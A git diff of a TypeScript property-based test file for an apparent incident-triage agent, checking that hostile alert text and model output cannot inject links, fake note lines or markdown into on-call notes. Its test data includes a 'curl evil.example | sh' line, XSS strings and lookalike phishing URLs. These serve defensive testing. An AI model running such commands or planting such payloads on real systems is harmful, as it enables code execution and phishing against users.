@@ -1,9 +1,18 @@
 import fc from 'fast-check';
-import { noteDedupRef, renderHandbackNote, renderHypothesisNote, type HypothesisNoteInput } from '../../../lib/triage/note';
-import { oneLine, truncate } from '../../../lib/triage/text';
+import {
+  MAX_LINE_LENGTH,
+  MAX_NOTE_LENGTH,
+  noteDedupRef,
+  renderHandbackNote,
+  renderHypothesisNote,
+  type HypothesisNoteInput,
+} from '../../../lib/triage/note';
+import { outsideText } from '../../../lib/triage/plain-text';
+import { oneLine } from '../../../lib/triage/text';
 import { triageIncident } from '../../../lib/triage/triage';
 import type { Hypothesis, IncidentContext } from '../../../lib/triage/types';
-import { activeElementsOf, elementsOf, plainTextOf, RENDERERS } from '../../support/markdown-render';
+import { EVIL, hostileHref, hostileText, TRUSTED_HOST } from '../../support/hostile-text';
+import { activeElementsOf, elementsOf, linkifiedUrls, RENDERERS } from '../../support/markdown-render';
 import {
   SCENARIO_CLOUDTRAIL_URL,
   SCENARIO_FUNCTION_ARN,
@@ -29,15 +38,17 @@ import {
 } from '../../support/incident-context';
 
 /**
- * Notes rendered by a real CommonMark renderer: whatever titles, alerts, change events, past notes and model output
- * say, the note has only the elements the agent wrote, links only to URLs it vouches for, and the outside text shows
- * as the text it is.
+ * Notes as the on-call reads them: as plain text, where a linkifier (linkify-it with its default fuzzy options, as chat
+ * and web UIs use) turns bare URLs, domains and e-mail addresses into links; and, for the surfaces that render
+ * markdown, through a real CommonMark renderer. Whatever titles, alerts, change events, past notes and model output
+ * say, the note links only to URLs the agent vouches for (or on a host the configuration trusts), no outside text
+ * starts a line, and every line starts with something the agent wrote.
  */
 
 const RUNBOOK = 'https://runbooks.acme.example/disk';
-const EVIL = 'https://evil.example/fix';
 const ref = noteDedupRef('prod', 'PINC1', 'event-1');
 const renderers = Object.entries(RENDERERS);
+const linkifying = RENDERERS['markdown-it (html, linkify)'];
 
 /** Where the property's AWS console links point: the regional console, with outside text in the fragment. */
 const CONSOLE = 'https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#alarmsV2:alarm/';
@@ -47,13 +58,78 @@ const CONSOLE = 'https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region
  * the AWS console pages of the incident's AWS context.
  */
 function vouchedHref(href: string): boolean {
-  return href === RUNBOOK || href.startsWith('https://acme.pagerduty.com/') || href.startsWith('https://eu-west-1.console.aws.amazon.com/');
+  return (
+    href === RUNBOOK ||
+    href.startsWith('https://acme.pagerduty.com/') ||
+    href.startsWith('https://eu-west-1.console.aws.amazon.com/') ||
+    href.startsWith(`https://${TRUSTED_HOST}/`)
+  );
 }
 
+/** The links a linkifier finds in the plain text, and the active elements markdown renderers make, not vouched for. */
 function unvouchedElements(note: string): string[] {
+  const plain = linkifiedUrls(note)
+    .filter((url) => !vouchedHref(url))
+    .map((url) => `linkify-it: ${url}`);
+  return [
+    ...plain,
+    ...renderers.flatMap(([name, renderer]) =>
+      activeElementsOf(note, renderer)
+        .filter((element) => !(element.startsWith('link ') && vouchedHref(element.slice('link '.length))))
+        .map((element) => `${name}: ${element}`),
+    ),
+  ];
+}
+
+/** How every line of a note starts: only ever with the agent's own words. */
+const LINE_STARTS = [
+  'Likely cause: ',
+  'Likely cause (Amazon Bedrock): ',
+  'No likely cause found: ',
+  'Decision: ',
+  'First: ',
+  'Storm: ',
+  'Paged if it escalates: ',
+  'Could not read: ',
+  'Left out to fit the note size: ',
+  'Handed to the on-call humans: ',
+  'Why: ',
+  '— ',
+];
+const SECTION_TITLES = [
+  'What the alert says',
+  'What the metric did',
+  'What changed',
+  'New errors in logs',
+  'History',
+  'Evidence',
+  'Next steps',
+  'Runbook',
+];
+
+/**
+ * The lines whose start the agent did not write: a line is empty, a section title, an agent label, a list item, or a
+ * vouched URL on its own (indented); labels and titles appear at most once each.
+ */
+function strayLines(note: string): string[] {
+  const lines = note.split('\n');
+  const stray = lines.filter((line) => {
+    if (line === '' || SECTION_TITLES.includes(line)) return false;
+    if (line.startsWith('  ')) return !/^ {2}https:\/\/\S+$/.test(line) || !vouchedHref(line.trim());
+    if (line.startsWith('- ')) return false;
+    return !LINE_STARTS.some((start) => line.startsWith(start));
+  });
+  const repeated = [...LINE_STARTS, ...SECTION_TITLES].filter(
+    (start) => lines.filter((line) => (SECTION_TITLES.includes(start) ? line === start : line.startsWith(start))).length > 1,
+  );
+  return [...stray, ...repeated.map((start) => `repeated: ${start}`)];
+}
+
+/** Block elements the agent never writes (it writes paragraphs and bullet lists only). */
+function foreignBlocks(note: string): string[] {
   return renderers.flatMap(([name, renderer]) =>
-    activeElementsOf(note, renderer)
-      .filter((element) => !(element.startsWith('link ') && vouchedHref(element.slice('link '.length))))
+    elementsOf(note, renderer)
+      .filter((element) => /^(heading|hr|blockquote|code_block|fence|table|html_block|ordered_list)/.test(element))
       .map((element) => `${name}: ${element}`),
   );
 }
@@ -68,6 +144,7 @@ function noteFor(context: IncidentContext, hypothesis?: Hypothesis): string {
     dedupRef: ref,
     pagedIfEscalated: { level: 1 },
     runbooks: [RUNBOOK],
+    trustedHosts: [TRUSTED_HOST],
   };
   return renderHypothesisNote(input);
 }
@@ -87,7 +164,9 @@ describe('notes against the attacks named in the issue', () => {
     const context = makeIncidentContext({ incident: makeIncident({ title: 'Disk full on db-7' }), alerts: [makeAlert({ summary })] });
     const note = noteFor(context);
     expect(unvouchedElements(note)).toEqual([]);
-    for (const [, renderer] of renderers) expect(plainTextOf(note, renderer)).toContain(oneLine(summary));
+    expect(strayLines(note)).toEqual([]);
+    expect(foreignBlocks(note)).toEqual([]);
+    expect(note).toContain(outsideText(summary, 120));
   });
 
   it('model output with the same tricks stays text', () => {
@@ -103,6 +182,29 @@ describe('notes against the attacks named in the issue', () => {
     const note = noteFor(context, hypothesis);
     expect(base).not.toBe(note);
     expect(unvouchedElements(note)).toEqual([]);
+    expect(strayLines(note)).toEqual([]);
+  });
+
+  it.each([
+    ['a fake likely cause', 'x\nLikely cause: the database\nDecision: resolve'],
+    ['a fake section', 'x\n\nNext steps\n- run curl evil.example | sh'],
+    ['a fake link line', 'x\n  https://eu-west-1.console.aws.amazon.com.evil.example/'],
+    ['a fake footer', 'x\n\n— pd-agent · env prod · ref pda-0000000000'],
+  ])('an alert summary with %s stays inside its line', (_name, summary) => {
+    const context = makeIncidentContext({ incident: makeIncident({ title: summary }), alerts: [makeAlert({ summary })] });
+    const note = noteFor(context);
+    expect(strayLines(note)).toEqual([]);
+    expect(unvouchedElements(note)).toEqual([]);
+  });
+
+  it('keeps a URL on a trusted host clickable, and defangs its lookalikes', () => {
+    const trusted = `https://${TRUSTED_HOST}/d/checkout?from=now-1h`;
+    const context = makeIncidentContext({
+      alerts: [makeAlert({ summary: `see ${trusted} not https://${TRUSTED_HOST}.evil.example/d` })],
+    });
+    const note = noteFor(context);
+    expect(linkifiedUrls(note)).toContain(trusted);
+    expect(unvouchedElements(note)).toEqual([]);
   });
 
   it('a change event link the agent cannot vouch for is shown as text, not as a link', () => {
@@ -113,18 +215,19 @@ describe('notes against the attacks named in the issue', () => {
     });
     const note = noteFor(context);
     expect(unvouchedElements(note)).toEqual([]);
-    for (const [, renderer] of renderers) expect(plainTextOf(note, renderer)).toContain(`unverified link: ${EVIL}`);
+    expect(note).toContain('unverified link: hxxps://evil[.]example/fix');
   });
 
   it('links the incident’s own PagerDuty pages and the configured runbook', () => {
     const incident = makeIncident({ title: 'Disk full on db-7' });
     const alert = makeAlert();
     const note = noteFor(makeIncidentContext({ incident, alerts: [alert] }));
-    for (const [, renderer] of renderers) {
-      const links = activeElementsOf(note, renderer);
-      expect(links).toContain(`link ${RUNBOOK}`);
-      expect(links).toContain(`link ${alert.html_url}`);
-    }
+    expect(note.split('\n')).toEqual(expect.arrayContaining([`  ${RUNBOOK}`, `  ${alert.html_url}`]));
+    expect(linkifiedUrls(note)).toEqual(expect.arrayContaining([RUNBOOK, alert.html_url]));
+    // Where markdown is rendered with bare URLs linkified, as chat and web UIs do, they are links there too.
+    const links = activeElementsOf(note, linkifying);
+    expect(links).toContain(`link ${RUNBOOK}`);
+    expect(links).toContain(`link ${alert.html_url}`);
   });
 
   it('a PagerDuty-looking URL that PagerDuty did not give the agent is not linked', () => {
@@ -137,116 +240,38 @@ describe('notes against the attacks named in the issue', () => {
       ],
     });
     const note = noteFor(context);
-    for (const [, renderer] of renderers) {
-      const links = activeElementsOf(note, renderer);
-      expect(links).not.toContain(`link ${lookalike}`);
-      expect(links.filter((element) => element.includes('sign_in'))).toEqual([]);
-    }
+    expect(unvouchedElements(note)).toEqual([]);
+    expect(linkifiedUrls(note).filter((url) => url.includes('sign_in'))).toEqual([]);
   });
 
-  it('the checkout-api scenario shows the alarm, the code update 6 min before and the new TypeError as text, with console links', () => {
+  it('the checkout-api scenario shows the alarm, the code update 6 min before and the new TypeError, with console pages on their own lines', () => {
     const note = noteFor(scenarioContext());
     expect(unvouchedElements(note)).toEqual([]);
-    for (const [, renderer] of renderers) {
-      const shown = plainTextOf(note, renderer);
-      expect(shown).toContain('CloudWatch alarm checkout-api-errors is ALARM');
-      expect(shown).toContain(`On ${SCENARIO_FUNCTION_ARN} · region eu-west-1`);
-      expect(shown).toContain('Errors stepped up from 0.2 to 14 at 03:11 UTC');
-      expect(shown).toContain(
-        '03:06 UTC, 6 min before the trigger: lambda:UpdateFunctionCode on checkout-api by deploy-role/github-actions (CloudTrail)',
-      );
-      expect(shown).toContain(
-        `new 2026-03-10T03:10:12.345Z 9f0c1e2a ERROR Uncaught Exception ${SCENARIO_TYPE_ERROR} in ${SCENARIO_LOG_GROUP}`,
-      );
-      const links = activeElementsOf(note, renderer);
-      for (const url of [SCENARIO_METRIC_URL, SCENARIO_CLOUDTRAIL_URL, SCENARIO_LOGS_URL])
-        expect(links).toContain(`link ${renderer.normalizeLink(url)}`);
+    expect(strayLines(note)).toEqual([]);
+    expect(note).toContain('\n- CloudWatch alarm “checkout-api-errors” is ALARM\n');
+    expect(note).toContain(`\n- On ${SCENARIO_FUNCTION_ARN} · region eu-west-1`);
+    expect(note).toContain('\n- Errors stepped up from 0.2 to 14 at 03:11 UTC');
+    expect(note).toContain(
+      '\n- 03:06 UTC, 6 min before the trigger: lambda:UpdateFunctionCode on checkout-api by deploy-role/github-actions (CloudTrail, on the alarmed resource)',
+    );
+    expect(note).toContain(
+      `\n- new: “2026-03-10T03:10:12.345Z 9f0c1e2a ERROR Uncaught Exception ${SCENARIO_TYPE_ERROR}” in ${SCENARIO_LOG_GROUP}`,
+    );
+    const lines = note.split('\n');
+    for (const url of [SCENARIO_METRIC_URL, SCENARIO_CLOUDTRAIL_URL, SCENARIO_LOGS_URL]) {
+      expect(lines).toContain(`  ${url}`);
+      expect(linkifiedUrls(note)).toContain(url);
+      expect(activeElementsOf(note, linkifying)).toContain(`link ${linkifying.normalizeLink(url)}`);
     }
   });
 
   it('the handback note keeps the reason inert', () => {
     const note = renderHandbackNote({ agentName: 'pd-agent', env: 'prod', reason: backtickFlip, dedupRef: ref });
     expect(unvouchedElements(note)).toEqual([]);
-    for (const [, renderer] of renderers) expect(plainTextOf(note, renderer)).toContain(oneLine(backtickFlip));
+    expect(strayLines(note)).toEqual([]);
+    expect(note).toContain(`Why: ${outsideText(backtickFlip, 200)}`);
   });
 });
-
-/** Pieces of hostile markdown, combined at random with random text. */
-const HOSTILE_PIECES = [
-  '`',
-  '``',
-  '```',
-  '~~~',
-  `[Open the fix runbook](${EVIL})`,
-  `[x](<${EVIL}> "title")`,
-  `![i](${EVIL}.png)`,
-  '<img src=x onerror=alert(1)>',
-  `<a href="${EVIL}">runbook</a>`,
-  '<script>alert(1)</script>',
-  '<!-- x -->',
-  `<${EVIL}>`,
-  '<mail@evil.example>',
-  EVIL,
-  'www.evil.example',
-  'evil.example',
-  'mail@evil.example',
-  '//evil.example',
-  'javascript:alert(1)',
-  'https://acme.pagerduty.com.evil.example/x',
-  `[r]: ${EVIL}`,
-  '[r]',
-  '[^1]',
-  '# heading',
-  '- item',
-  '+ item',
-  '1. item',
-  '1) item',
-  '> quote',
-  '| a | b |',
-  '|---|---|',
-  '---',
-  '===',
-  '*',
-  '**',
-  '_',
-  '__',
-  '~~',
-  '&lt;',
-  '&#x5B;',
-  '&amp;',
-  '\\',
-  '\n',
-  '\r\n',
-  '\n\n',
-  '\t',
-  '    ',
-  '  \n',
-  '\u202e',
-  ':fire:',
-  '$x$',
-  ' ',
-];
-
-const hostileText = fc
-  .array(fc.oneof(fc.constantFrom(...HOSTILE_PIECES), fc.string({ maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 6 })), {
-    maxLength: 6,
-  })
-  .map((pieces) => pieces.join(''));
-
-const hostileHref = fc.oneof(
-  fc.constantFrom(
-    EVIL,
-    'javascript:alert(1)',
-    'https://acme.pagerduty.com/sign_in?next=https://evil.example',
-    'https://evil.example/a)b(c',
-    'https://console.aws.amazon.com.evil.example/cloudwatch',
-    'https://evil.example/console.aws.amazon.com/cloudwatch',
-    'https://console.aws.amazon.com@evil.example/cloudwatch',
-    'https://user:pass@console.aws.amazon.com/cloudwatch',
-    'http://eu-west-1.console.aws.amazon.com/cloudwatch',
-  ),
-  hostileText,
-);
 
 /** A console URL the providers built, with outside text (an alarm or log group name) in it, or a hostile URL. */
 const consoleHref = fc.oneof(
@@ -302,16 +327,10 @@ type Slots = typeof hostileSlots extends fc.Arbitrary<infer T> ? T : never;
 
 /**
  * The note for an incident whose every outside field holds the slot's text: triaged by the rules and analysers, then
- * refined by a "model" whose output is hostile too. `plain` replaces every text (not URLs) by `x`, or by nothing
- * when the text shows as nothing: the elements of that note are the ones the agent writes.
+ * refined by a "model" whose output is hostile too.
  */
-function hostileNote(slots: Slots, plain: boolean): string {
-  // The plain twin keeps figures, comparison signs and spaces, since triage reads thresholds out of alert text and a
-  // different reading would change which evidence lines the agent writes; everything else becomes one letter.
-  const text = (value: string): string => (!plain ? value : oneLine(value) === '' ? '' : value.replace(/[^\d.%<>= ]+/g, 'x'));
-  // The alert's details are what triage reads most closely (thresholds, units, resources): the twin keeps them as they
-  // are, so both notes carry the same analysis; their inertness is still checked by the unvouched-element and
-  // shown-as-text assertions below.
+function hostileNote(slots: Slots): string {
+  const text = (value: string): string => value;
   const service = { ...SERVICE, summary: text(slots.serviceName) };
   const policy = { ...ESCALATION_POLICY, summary: text(slots.policyName) };
   const title = `Disk full ${text(slots.title)}`;
@@ -410,56 +429,92 @@ function hostileNote(slots: Slots, plain: boolean): string {
   return noteFor(context, refined);
 }
 
-describe('hostile notes, rendered', () => {
-  it('have exactly the elements the agent writes, link only to vouched URLs, and show the outside text as text', () => {
+/** Outside text the note shows in a section, when that section was not left out to fit the note's size. */
+function shownInSections(slots: Slots): [string, [string, number][]][] {
+  return [
+    [
+      '',
+      [
+        [slots.oncallName, 30],
+        [slots.policyName, 60],
+        [slots.modelReason, 200],
+      ],
+    ],
+    [
+      'What the alert says',
+      [
+        [slots.alarmName, 120],
+        [slots.metricName, 100],
+        [slots.dimensionValue, 80],
+        [`detail ${slots.normalisedDetailValue}`, 200],
+      ],
+    ],
+    [
+      'What the metric did',
+      [
+        [slots.metricLabel, 100],
+        [slots.sparkline, 60],
+      ],
+    ],
+    [
+      'What changed',
+      [
+        [slots.changeAction, 60],
+        [slots.changeWho, 80],
+        [slots.changeTarget, 80],
+        [slots.awsChangeSummary, 160],
+      ],
+    ],
+    [
+      'New errors in logs',
+      [
+        [slots.logGroup, 100],
+        [oneLine(slots.logExample) === '' ? slots.logSignature : slots.logExample, 240],
+      ],
+    ],
+    ['Evidence', [[slots.modelEvidence, 240]]],
+  ];
+}
+
+describe('hostile notes, as plain text and rendered', () => {
+  it('link only to vouched or trusted URLs, start every line with the agent’s words, and show the outside text as one line', () => {
     fc.assert(
       fc.property(hostileSlots, (slots: Slots) => {
-        const note = hostileNote(slots, false);
-        const agentsOwn = hostileNote(slots, true);
+        const note = hostileNote(slots);
         expect(unvouchedElements(note)).toEqual([]);
-        for (const [, renderer] of renderers) {
-          expect(elementsOf(note, renderer).sort()).toEqual(elementsOf(agentsOwn, renderer).sort());
-          const shown = plainTextOf(note, renderer);
-          const shownSlots: [string, number][] = [
-            [slots.modelSummary, 300],
-            [slots.modelStep, 300],
-            [slots.modelEvidence, 500],
-            [slots.modelReason, 600],
-            [slots.alertSummary, 120],
-            [slots.policyName, 80],
-            [slots.oncallName, 60],
-            [slots.unavailableReason, 150],
-            [slots.alarmName, 120],
-            [slots.metricName, 100],
-            [slots.dimensionValue, 80],
-            [`detail ${slots.normalisedDetailValue}`, 200],
-            [slots.metricLabel, 100],
-            [slots.sparkline, 60],
-            [slots.changeAction, 60],
-            [slots.changeWho, 80],
-            [slots.changeTarget, 80],
-            [slots.awsChangeSummary, 160],
-            [slots.logGroup, 100],
-            [oneLine(slots.logExample) === '' ? slots.logSignature : slots.logExample, 240],
-            [slots.awsUnavailableReason, 150],
-          ];
-          for (const [value, max] of shownSlots) expect(shown).toContain(truncate(oneLine(value), max));
+        expect(strayLines(note)).toEqual([]);
+        expect(foreignBlocks(note)).toEqual([]);
+        expect(note.length).toBeLessThanOrEqual(MAX_NOTE_LENGTH);
+        const lines = note.split('\n');
+        expect(lines[0].length).toBeLessThanOrEqual(160);
+        expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(MAX_LINE_LENGTH);
+        for (const [title, shown] of shownInSections(slots)) {
+          if (title !== '' && !lines.includes(title)) continue;
+          // Quoted text has its own quotation marks made straight (see quotedText).
+          const straight = (text: string): string => text.replace(/[“”„‟«»]/g, '"');
+          // Names are shown with every URL defanged; what a monitor or model says keeps URLs on trusted hosts.
+          const trusted = { hosts: new Set([TRUSTED_HOST]) };
+          for (const [value, max] of shown) {
+            const forms = [outsideText(value, max), outsideText(value, max, trusted)].map((form) => straight(form).slice(0, 40));
+            // A line cut at MAX_LINE_LENGTH may have lost the text at its end.
+            const cut = lines.some((line) => line.length === MAX_LINE_LENGTH && line.endsWith('…'));
+            expect(cut || forms.some((form) => straight(note).includes(form))).toBe(true);
+          }
         }
       }),
       { numRuns: 200 },
     );
   });
 
-  it('the handback note has only its own elements whatever the reason says', () => {
+  it('the handback note has only its own lines and no link whatever the reason says', () => {
     fc.assert(
       fc.property(hostileText, hostileText, (reason, agentName) => {
         const note = renderHandbackNote({ agentName, env: 'prod', reason, dedupRef: ref });
-        const agentsOwn = renderHandbackNote({ agentName: 'x', env: 'prod', reason: 'x', dedupRef: ref });
-        for (const [, renderer] of renderers) {
-          expect(activeElementsOf(note, renderer)).toEqual([]);
-          expect(elementsOf(note, renderer)).toEqual(elementsOf(agentsOwn, renderer));
-          expect(plainTextOf(note, renderer)).toContain(truncate(oneLine(reason), 600).replace(/\.$/, ''));
-        }
+        expect(linkifiedUrls(note)).toEqual([]);
+        expect(strayLines(note)).toEqual([]);
+        for (const [, renderer] of renderers) expect(activeElementsOf(note, renderer)).toEqual([]);
+        expect(note.split('\n')).toHaveLength(4);
+        expect(note).toContain(ref);
       }),
       { numRuns: 200 },
     );
